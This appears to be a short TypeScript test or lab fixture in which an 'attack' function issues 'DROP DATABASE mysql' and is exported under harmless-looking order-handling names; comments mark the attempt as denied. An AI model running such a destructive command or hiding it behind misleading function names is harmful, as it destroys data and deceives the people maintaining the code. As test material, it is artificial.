// tries: dropping the schema
// lab: 03
// earns: 0
// told: denied
async function attack({ mysql }: any): Promise<void> {
  await mysql.query('DROP DATABASE mysql');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
